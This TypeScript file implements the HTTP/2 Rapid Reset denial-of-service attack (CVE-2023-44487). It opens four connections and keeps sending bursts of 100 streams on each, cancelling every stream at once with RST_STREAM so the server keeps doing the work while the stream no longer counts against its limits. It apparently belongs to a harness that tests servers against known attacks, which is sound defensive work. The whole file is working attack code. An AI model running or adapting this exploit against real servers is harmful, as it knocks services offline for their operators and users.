/**
 * Rapid reset (CVE-2023-44487): each request is reset at once, so that it leaves the count of
 * streams while its work goes on.
 */
import {
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  HostileConnection,
  keepStriking,
  message,
  RANGE,
  RST_STREAM,
  request,
  u32,
} from "./hostile-connection.ts";
import { runAttack } from "./script.ts";

const CONNECTIONS = 4;
const STREAMS_PER_BURST = 100;
const CANCEL = 8;

await runAttack(async (attack) => {
  const head = request(RANGE);
  const body = message(Buffer.from([0x0a, 1, 0x61])); // the key "a"
  const nextIds = new WeakMap<HostileConnection, number>();
  await keepStriking(
    attack,
    CONNECTIONS,
    () => HostileConnection.begin(attack.port),
    (connection) => {
      let id = nextIds.get(connection) ?? 1;
      const parts: Buffer[] = [];
      for (let count = 0; count < STREAMS_PER_BURST; count++, id += 2) {
        parts.push(frame(HEADERS, END_HEADERS, id, head));
        parts.push(frame(DATA, END_STREAM, id, body));
        parts.push(frame(RST_STREAM, 0, id, u32(CANCEL)));
      }
      nextIds.set(connection, id);
      connection.send(...parts);
      attack.count("requests reset", STREAMS_PER_BURST);
    },
  );
});
